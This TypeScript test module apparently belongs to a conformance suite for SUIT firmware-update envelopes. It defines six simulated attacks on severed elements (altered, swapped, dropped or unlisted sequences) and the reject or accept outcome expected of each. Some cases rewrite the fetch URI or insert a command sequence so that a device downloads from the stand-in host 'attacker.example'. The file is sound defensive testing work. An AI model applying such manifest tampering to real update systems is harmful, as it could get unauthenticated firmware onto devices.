/**
 * Attacks on severed elements: altered, exchanged, dropped or slipped in (draft §5.4, §8.4.12).
 *
 * @module
 */
import fc from 'fast-check';
import { equalBytes } from '../cbor/hex.ts';
import { type Entry, type Item, int, isInt, map, tstr, valueAt, wrapped } from '../cbor/item.ts';
import { sortEntries } from '../cbor/order.ts';
import type { DeliveryEvent, Payload } from '../device/delivery.ts';
import { stateOf, withState } from '../device/recipient.ts';
import { before, type Scenario } from '../scenarios/scenario.ts';
import { manifest } from '../suit/clause.ts';
import { isSectionSevered, sequenceOf, withParameter, withSequence } from '../suit/edit.ts';
import type { EnvelopeParts } from '../suit/parts.ts';
import { commandCode, envelopeKey, manifestKey, parameterKey } from '../suit/registry.ts';
import { unwrap } from '../suit/unwrap.ts';
import type { AnyAttack, Attack, Expectation } from './attack.ts';
import { alter, defaultEvent, deliverEnvelope } from './deliver.ts';
import { eitherAnswer, mustAccept, mustReject } from './expectation.ts';
import { updateOf } from './history.ts';

const elsewhere = 'https://attacker.example/payload';
const prohibits: Expectation['prohibits'] = [{ kind: 'fetch', uri: elsewhere }];

const usedAltered = mustReject(['severed-mismatch'], manifest('8.4.12'), { prohibits });
const unusedAltered = eitherAnswer(['severed-mismatch'], manifest('5.4'));

/** Alters a severed element: another URI, where the network has the right image, or another text. */
export const altered: Attack<{ element: 'sequence' | 'text' }> = {
  id: 'sever.mismatch',
  handle: 'D11',
  group: 'D',
  family: 'integrity',
  change: 'alter a severed element, one that the run uses or the text',
  by: 'outsider',
  threats: ['THREAT.IMG.NON_AUTH'],
  violates: ['REQ.SEC.AUTHENTIC'],
  expects: [usedAltered, unusedAltered],
  on: { features: ['network', 'severed', 'text'] },
  choice: fc.record({ element: fc.constantFrom('sequence', 'text') }),
  apply(scenario, { element }) {
    if (element === 'text') return alter(scenario, alteredText, { expect: unusedAltered });
    const uri = scenario.images[0]?.uri;
    const found = before(scenario, 'update')?.delivery.delivery;
    const payload = found?.payloads.find((one) => one.uri === uri);
    if (uri === undefined || found === undefined || payload === undefined) return undefined;
    const there: Payload = { ...payload, uri: elsewhere };
    const old = tstr(uri).bytes;
    const redirected = withParameter(scenario.release, parameterKey.uri, (value) =>
      value.kind === 'tstr' && equalBytes(value.bytes, old) ? tstr(elsewhere) : value,
    );
    if (redirected.members === scenario.release.members) return undefined;
    return alter(scenario, (parts) => ({ ...parts, members: redirected.members }), {
      event: 'update',
      payloads: [...found.payloads, there],
      expect: usedAltered,
    });
  },
};

/** Exchanges the severed sequences, or takes the install sequence of another authentic release. */
export const swapped: Attack<{ from: 'other-release' | 'each-other' }> = {
  id: 'sever.swap',
  handle: 'D12',
  group: 'D',
  family: 'integrity',
  change: 'exchange two severed elements, or take one from another authentic envelope',
  by: 'outsider',
  threats: ['THREAT.IMG.NON_AUTH'],
  violates: ['REQ.SEC.AUTHENTIC'],
  expects: [mustReject(['severed-mismatch'], manifest('5.4'))],
  on: { features: ['copy', 'severed'] },
  choice: fc.record({ from: fc.constantFrom('other-release', 'each-other') }),
  apply(scenario, { from }) {
    const fetch = memberAt(scenario.release, envelopeKey.payloadFetch);
    const install = memberAt(scenario.release, envelopeKey.install);
    if (defaultEvent(scenario) !== 'update' || install === undefined) return undefined;
    if (from === 'each-other' && fetch === undefined) return undefined;
    // The other release differs in one superfluous check of the image that was installed last.
    const other = withSequence(scenario.release, 'install', (list) => ({
      ...list,
      items: [...list.items, int(commandCode.imageMatch), int(15)],
    }));
    const put = (parts: EnvelopeParts, key: number, value: Item | undefined): EnvelopeParts => ({
      ...parts,
      members: parts.members.map(([k, old]): Entry => (isInt(k, key) && value ? [k, value] : [k, old])),
    });
    return alter(scenario, (parts) =>
      from === 'other-release'
        ? put(parts, envelopeKey.install, memberAt(other, envelopeKey.install))
        : put(put(parts, envelopeKey.install, fetch), envelopeKey.payloadFetch, install),
    );
  },
};

/** Drops a severed sequence that the update needs; the recipient may hold already what the update would install. */
export const absentNeeded: Attack<{ element: 'install' | 'payloadFetch'; held: 'old' | 'new' }> = {
  id: 'sever.absent-needed',
  handle: 'D13',
  group: 'D',
  family: 'integrity',
  change: 'drop a severed element that the procedure needs',
  by: 'outsider',
  threats: ['THREAT.NET.ONPATH'],
  violates: [],
  expects: [mustReject(['severed-missing'], manifest('6.3'))],
  on: { features: ['network', 'severed'] },
  choice: fc.record({
    element: fc.constantFrom('install', 'payloadFetch'),
    held: fc.constantFrom('new', 'old'),
  }),
  apply(scenario, { element, held }) {
    const key = envelopeKey[element];
    const update = updateOf(scenario);
    if (update === undefined || memberAt(scenario.release, key) === undefined) return undefined;
    const made = alter(scenario, (parts) => without(parts, key), { event: 'update' });
    if (made === undefined || held === 'old') return made;
    const { contents } = update.delivery.after;
    const recipient = withState(update.recipient, { ...stateOf(update.recipient), contents });
    return { ...made, control: { ...made.control, recipient }, attacked: { ...made.attacked, recipient } };
  },
};

const unneeded = mustAccept(manifest('5.4'));

/** Drops what the procedure does not need: the text, or before a boot the sequences of the update. */
export const absentUnneeded: Attack<{ before: DeliveryEvent }> = {
  id: 'sever.absent-unneeded',
  handle: 'D14',
  group: 'D',
  family: 'integrity',
  change: 'drop the severed text, or before an invocation the severed sequences of the update',
  by: 'outsider',
  threats: [],
  violates: ['REQ.USE.PARSE'],
  expects: [unneeded],
  on: { features: ['network', 'boot-after-update', 'severed', 'text'] },
  choice: fc.record({ before: fc.constantFrom('update', 'boot') }),
  apply(scenario, { before: event }) {
    const { text, install, payloadFetch } = envelopeKey;
    const keys = event === 'update' ? [text] : [payloadFetch, install];
    const less = keys.reduce(without, scenario.release);
    if (less.members.length === scenario.release.members.length) return undefined;
    return deliverEnvelope(scenario, less, { event });
  },
};

const slippedIn = eitherAnswer(['severed-unlisted'], manifest('8.4.12'), { prohibits });

/** Adds a sequence to the envelope that the manifest does not list. */
export const unlisted: Attack<{ element: 'payloadFetch' | 'install' }> = {
  id: 'sever.unlisted',
  handle: 'D15',
  group: 'D',
  family: 'integrity',
  change: 'add a command sequence to the envelope for which the manifest has no entry',
  by: 'outsider',
  threats: ['THREAT.IMG.NON_AUTH'],
  violates: ['REQ.SEC.AUTHENTIC'],
  expects: [slippedIn],
  choice: fc.record({ element: fc.constantFrom('payloadFetch', 'install') }),
  apply(scenario, { element }) {
    const key = valueAt(scenario.release.manifest, manifestKey[element]) ? undefined : envelopeKey[element];
    return key && slipIn(scenario, key);
  },
};

/** Adds a sequence to the envelope that the manifest already has inline. */
export const both: Attack<{ element: 'install' | 'payloadFetch' }> = {
  id: 'sever.both',
  handle: 'D16',
  group: 'D',
  family: 'integrity',
  change: 'add to the envelope a command sequence that stands in the manifest itself',
  by: 'outsider',
  threats: ['THREAT.IMG.NON_AUTH'],
  violates: ['REQ.SEC.AUTHENTIC'],
  expects: [slippedIn],
  on: { features: ['copy', 'update'] },
  choice: fc.record({ element: fc.constantFrom('install', 'payloadFetch') }),
  apply(scenario, { element }) {
    const { release } = scenario;
    if (sequenceOf(release, element) === undefined || isSectionSevered(release, element)) return undefined;
    return slipIn(scenario, envelopeKey[element]);
  },
};

export const severedAttacks: readonly AnyAttack[] = [
  altered,
  swapped,
  absentNeeded,
  absentUnneeded,
  unlisted,
  both,
];

function memberAt(parts: EnvelopeParts, key: number): Item | undefined {
  return parts.members.find(([k]) => isInt(k, key))?.[1];
}

function without(parts: EnvelopeParts, key: number): EnvelopeParts {
  return { ...parts, members: parts.members.filter(([k]) => !isInt(k, key)) };
}

/** The severed text with a language more. */
function alteredText(parts: EnvelopeParts): EnvelopeParts | undefined {
  const member = memberAt(parts, envelopeKey.text);
  const text = member && unwrap(member, 'not-well-formed', 'the text');
  if (!text?.ok || text.value.kind !== 'map') return undefined;
  const entries = [...text.value.entries, [tstr('x-other'), map([int(1), tstr('Altered')])] as const];
  const changed = wrapped(sortEntries({ ...text.value, entries }));
  return {
    ...parts,
    members: parts.members.map(([k, old]): Entry => (isInt(k, envelopeKey.text) ? [k, changed] : [k, old])),
  };
}

/** A sequence that fetches from the attacker, where the manifest's own commands are not touched. */
function slipIn(scenario: Scenario, key: number) {
  const commands: Item[] = [
    int(commandCode.setComponentIndex),
    int(0),
    int(commandCode.overrideParameters),
    map([int(parameterKey.uri), tstr(elsewhere)]),
    int(commandCode.fetch),
    int(15),
  ];
  const found = before(scenario, defaultEvent(scenario))?.delivery.delivery;
  if (found === undefined || memberAt(scenario.release, key) !== undefined) return undefined;
  const bytes = scenario.images[0]?.bytes ?? Uint8Array.of(0);
  const member: Entry = [int(key), wrapped({ kind: 'array', items: commands })];
  return alter(
    scenario,
    (parts) => ({ ...parts, members: sortEntries(map(...parts.members, member)).entries }),
    { payloads: [...found.payloads, { uri: elsewhere, kind: 'bytes', bytes }] },
  );
}
